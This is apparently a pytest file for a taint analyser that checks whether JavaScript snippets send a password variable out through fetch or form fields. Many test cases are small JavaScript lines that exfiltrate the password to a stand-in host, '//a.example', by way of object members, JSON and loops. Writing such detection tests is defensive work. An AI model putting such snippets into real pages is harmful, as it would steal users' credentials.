"""Names that have a password."""

from __future__ import annotations

import pytest

from tests.client_scripts.test_script_analysis import TAKEN, analysed, channels


def test_a_password_is_followed_over_names() -> None:
    assert channels(TAKEN + 'a = p; b = "x" + a; fetch("//a.example", b);')
    assert not channels(TAKEN + 'a = p.length > 3; b = "x"; fetch("//a.example", b);')


@pytest.mark.parametrize(
    ("code", "is_sent"),
    [
        ("o = {}; o.a = p; o.b = 1; fetch('//a.example', o.a);", True),
        ("o = {}; o.a = p; o.b = 1; fetch('//a.example', o.b);", False),
        ("o = {}; o.b = 1; o.a = p; o.c = p; fetch('//a.example', o.c);", True),
        ("o = { a: p, b: 1 }; fetch('//a.example', o.a);", True),
        ("o = { a: p, b: 1 }; fetch('//a.example', o.b);", False),
        ("o = { a: p, b: 1 }; s = extend({}, o); fetch('//a.example', s.b);", False),
        ("o = { a: p, b: 1 }; s = extend({}, o); fetch('//a.example', s.a);", True),
        ("o = { a: p }; fetch('//a.example', JSON.stringify(o));", True),
        ("o = {}; o['a'] = p; fetch('//a.example', o.a);", True),
        ("o = {}; o.a = p; t = ''; for (k in o) t += o[k]; fetch('//a.example', t);", True),
        ("o = {}; o.a = p; o.b = o.a + '1'; fetch('//a.example', o.b);", True),
        ("o = { f: { a: p } }; fetch('//a.example', o.f.a);", True),
        ("this.a = p; fetch('//a.example', this.a);", True),
        ("this.a = p; fetch('//a.example', this.b);", False),
    ],
)
def test_members_of_an_object_are_told_apart(code: str, is_sent: bool) -> None:
    assert bool(channels(TAKEN + code)) is is_sent


@pytest.mark.parametrize(
    ("code", "key"),
    [
        ('fetch("/x", "z9=" + p);', "z9"),
        ('fetch("/x?a=1&Z9=" + encodeURIComponent(p));', "z9"),
        ('fetch("/x", { z9: p });', "z9"),
        ('form.append("z9", p);', "z9"),
        ('fetch("/x", \'{"z9":"\' + p);', "z9"),
    ],
)
def test_the_name_under_which_a_password_is_sent(code: str, key: str) -> None:
    assert key in analysed(TAKEN + code).fields
